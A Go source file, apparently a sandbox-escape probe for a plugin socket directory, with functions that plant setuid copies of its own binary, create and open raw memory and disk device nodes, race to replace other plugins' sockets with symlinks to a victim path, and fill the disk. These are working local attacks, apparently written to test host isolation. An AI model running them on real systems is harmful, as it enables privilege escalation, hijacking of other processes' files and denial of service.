package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

func socketFolder() string { return os.Getenv("PLUGIN_UNIX_SOCKET_DIR") }

// setuidLeft leaves programs for whoever finds them, and devices for whoever opens them.
func setuidLeft() []string {
	gained := []string{}
	self, _ := os.ReadFile("/proc/self/exe")
	for i, mode := range []uint32{0o4755, 0o6777, 0o2755} {
		path := filepath.Join(socketFolder(), fmt.Sprintf("program%d", i))
		if os.WriteFile(path, self, 0o755) == nil {
			syscall.Chmod(path, mode)
		}
	}
	for name, device := range map[string]int{"mem": 0x101, "null": 0x103, "disk": 0x800} {
		for _, kind := range []uint32{syscall.S_IFCHR, syscall.S_IFBLK} {
			path := filepath.Join(socketFolder(), name)
			if syscall.Mknod(path, kind|0o666, device) == nil {
				if file, err := os.Open(path); err == nil {
					file.Close()
					gained = append(gained, "opened a device")
				}
			}
		}
	}
	syscall.Mkfifo(filepath.Join(socketFolder(), "owner.json"), 0o666)
	syscall.Chmod(socketFolder(), 0o777)
	return gained
}

// linksSwapped puts links to somebody else's file in the place of every socket that appears, for some seconds.
func linksSwapped() []string {
	victim := os.Getenv("ATTACK_VICTIM")
	known := map[string]bool{}
	link := filepath.Join(socketFolder(), ".link")
	for end := time.Now().Add(4 * time.Second); time.Now().Before(end); {
		folder, err := os.Open(socketFolder())
		if err != nil {
			return nil
		}
		names, _ := folder.Readdirnames(-1)
		folder.Close()
		for _, name := range names {
			if known[name] || strings.HasPrefix(name, ".link") {
				continue
			}
			known[name] = true
			if len(known) == 1 {
				continue // its own socket
			}
			os.Symlink(victim, link)
			os.Rename(link, filepath.Join(socketFolder(), name))
		}
	}
	return nil
}

// diskFilled writes until nothing more is taken, and no more than would show that there is no limit.
func diskFilled() []string {
	file, err := os.Create(filepath.Join(socketFolder(), "big"))
	if err != nil {
		return nil
	}
	piece := make([]byte, 1<<20)
	for written := 0; written < 192; written++ {
		if _, err := file.Write(piece); err != nil {
			return nil
		}
	}
	return []string{"192 MiB of the host's disk"}
}
